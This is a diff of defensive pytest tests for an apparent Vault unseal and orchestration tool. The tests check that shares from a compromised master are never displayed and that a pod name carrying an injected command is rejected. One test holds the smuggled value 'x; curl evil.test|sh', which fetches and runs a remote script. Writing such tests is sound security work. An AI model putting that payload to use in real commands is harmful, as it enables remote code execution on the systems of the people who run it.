@@ -48,6 +48,14 @@ def program(tmp_path: Path, *, said: str) -> str:
     return str(path)
 
 
+def answering(path: str, *changes: tuple[str, str]) -> None:
+    """Have the stand-in answer otherwise."""
+    text = Path(path).read_text()
+    for old, new in (("time.sleep(600)", "pass"), *changes):
+        text = text.replace(old, new)
+    Path(path).write_text(text)
+
+
 def files_of(folder: Path) -> str:
     """Everything in a folder, as text."""
     return "".join(p.read_text(errors="replace") for p in folder.rglob("*") if p.is_file())
@@ -156,3 +164,48 @@ def test_a_way_stays_open_for_as_many_questions_as_there_are_tokens(
     with vaults.way_to("vault", "vault-0") as vault:
         for _ in range(100):
             assert vault.ask("GET", "sys/seal-status") == {}
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "[]",
+        "null",
+        '["{share}", "{share}"]',
+        '["no share"]',
+        '["\\\\u001b[2J"]',
+        '"{share}"',
+    ],
+)
+async def test_what_a_master_calls_shares_and_is_none_is_shown_to_nobody(
+    tmp_path: Path, said: str
+) -> None:
+    """A master that was broken into may answer anything."""
+    common = {"program": program(tmp_path, said="uninitialised"), "namespace": "vault"}
+    told = said.format(share=SHARE).replace("null", "None")
+    answering(common["program"], (f'["{SHARE}"]', told))
+    made = plan(step("shares", kind="vault", does="hand-over", shares="1", threshold="1", **common))
+    run, watch, asked = new_run(made), Watch(), list[Question]()
+
+    async def here(question: Question) -> Answer:
+        asked.append(question)
+        return Answer("Ma Ma", yes=True)
+
+    built = engine(made, run, ask=here, watch=watch)
+    assert await built.run() is Outcome.FAILED
+    (failure,) = built.failures
+    assert "what came is not that; no share was shown to anybody" in failure.problem.cause
+    assert all(question.hands is None for question in asked)
+    assert SHARE not in files_of(run.folder)
+
+
+async def test_a_pod_with_the_name_of_a_command_is_no_pod(tmp_path: Path) -> None:
+    """Its name stands in what a person is told to paste."""
+    common = {"program": program(tmp_path, said="sealed"), "namespace": "vault"}
+    answering(common["program"], ('"vault-0"', '"x; curl evil.test|sh"'))
+    made = plan(step("open", kind="vault", does="open", **common))
+    built = engine(made, new_run(made), watch=Watch())
+    assert await built.run() is Outcome.FAILED
+    (failure,) = built.failures
+    assert "answered something else" in failure.problem.cause
+    assert "curl" not in f"{failure.problem.cause} {failure.problem.remedy}"
